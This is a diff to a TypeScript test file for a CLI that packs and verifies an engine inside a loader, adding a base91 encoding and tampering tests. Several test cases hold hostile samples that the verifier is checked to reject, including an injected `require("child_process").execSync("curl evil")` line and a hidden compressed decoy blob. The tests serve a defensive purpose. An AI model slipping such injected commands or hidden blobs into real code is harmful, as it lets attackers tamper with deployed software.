@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { brotliCompressSync } from 'node:zlib';
 import { main } from '../cli/main';
-import { engineHash, packEngine, templateEngine, unpackEngine } from '../lib/engine-pack';
+import { engineHash, fromBase91, packEngine, templateEngine, toBase91, unpackEngine } from '../lib/engine-pack';
 
 const ENGINE = 'exports.handler=async()=>{};';
 const HASH = engineHash(ENGINE);
@@ -29,7 +29,17 @@ async function engineSource(body: unknown) {
   return { code, out: out.join('\n'), err: err.join('\n').replace(file, 'TEMPLATE') };
 }
 
-const decoy = Buffer.from(brotliCompressSync(Buffer.from('require("child_process")'))).toString('base64');
+const decoy = toBase91(brotliCompressSync(Buffer.from('require("child_process")')));
+
+test('base 91 round-trips any bytes, in characters that need no escape in JavaScript, JSON or single-quoted YAML', () => {
+  for (let length = 0; length < 200; length++) {
+    const bytes = Buffer.from(Array.from({ length }, (_, i) => (i * 151 + length * 7) % 256));
+    const text = toBase91(bytes);
+    expect(fromBase91(text, length)).toEqual(bytes);
+    expect(text).toMatch(/^[!#-&(-[\]-~]*$/);
+    expect(text.length).toBeLessThanOrEqual(Math.ceil((length * 8) / 13) * 2);
+  }
+});
 
 test('EngineVersion is the full SHA-256 and the loader names it', () => {
   expect(HASH).toMatch(/^[0-9a-f]{64}$/);
@@ -44,10 +54,11 @@ test('engine-source prints the verified engine with its full EngineVersion', asy
 test.each([
   ['code after the loader', `${LOADER}\nrequire("child_process").execSync("curl evil")`, 'ctl-departure: engine-source TEMPLATE: the code is not exactly the ctl-departure loader around its engine'],
   ['code before the loader', `globalThis.x=1;${LOADER}`, 'the code is not exactly the ctl-departure loader around its engine'],
-  ['a decoy blob', `${LOADER}\n//Buffer.from("${decoy}","base64")`, 'the code carries 2 packed blobs, not one'],
+  ['a decoy blob', `${LOADER}\n//S="${decoy}",B=[]`, 'the code carries 2 packed blobs, not one'],
   ['a header naming another hash', LOADER.replace(HASH, 'f'.repeat(64)), 'the code is not exactly the ctl-departure loader'],
   ['no blob at all', 'exports.handler=async()=>{}', 'this code was not written by ctl-departure (no packed engine in it)'],
-  ['a blob that is not brotli', LOADER.replace(/Buffer\.from\("[^"]+"/, 'Buffer.from("AAAA"'), 'the packed engine does not decompress'],
+  ['a blob that is not brotli', LOADER.replace(/S="[^"]+"/, 'S="AAAA"'), 'the packed engine does not decompress'],
+  ['a length that is not the blob\'s', LOADER.replace(/B\.length=\d+;/, 'B.length=3;'), 'the packed engine does not decompress'],
 ])('engine-source refuses %s with one line and exit code 2', async (_what, code, message) => {
   const result = await engineSource(template(code));
   expect(result.code).toBe(2);
